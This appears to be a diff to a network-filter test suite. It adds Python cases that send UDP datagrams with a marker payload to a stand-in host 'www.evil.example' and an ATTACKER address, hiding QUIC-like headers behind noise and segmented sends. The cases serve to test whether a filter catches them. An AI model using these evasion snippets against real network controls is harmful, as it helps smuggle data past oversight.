@@ -5,7 +5,7 @@ import socket
 
 from rig.attacks import ATTACKER, ATTACKER6, Attack, AttackCase, attacks, kernel_lacks
 from rig.cases import expand
-from rig.internet import WWW
+from rig.internet import RESOLVER, WWW
 
 
 def refused_in_kernel(label, program, **more):
@@ -32,6 +32,19 @@ s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SO
 s.bind(("", 40111)); s.sendto(b"x", ("{WWW}", 7000)); s.recv(10); s.close()
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
 s.bind(("", 40111)); s.connect((ATTACKER, 443)); s.send(mark); s.recv(10)""", policy=UDP_POLICY),
+    # By name only: what begins a connection of QUIC is to be seen first. The second of two segments
+    # of one send is such a datagram.
+    Attack("QUIC behind noise, in one segmented send", f"""
+to = (socket.gethostbyname("www.evil.example"), 443)
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"noise", to); s.recv(10)
+s.setsockopt(17, 103, 40)  # UDP_SEGMENT
+s.sendto(b"n" * 40 + b"\\xc0\\0\\0\\0\\1" + mark, to); s.recv(10)""", silent=False,
+           policy=f"{RESOLVER}:53/udp\nwww.evil.example:443/udp\n", logged=False),
+    Attack("QUIC behind noise", f"""
+to = (socket.gethostbyname("www.evil.example"), 443)
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"noise", to); s.recv(10)
+s.sendto(b"\\xc0\\0\\0\\0\\1" + mark, to); s.recv(10)""", silent=False,
+           policy=f"{RESOLVER}:53/udp\nwww.evil.example:443/udp\n"),
     Attack("a flood, and the datagram in the midst of it", f"""
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setblocking(False)
 for i in range(20000):
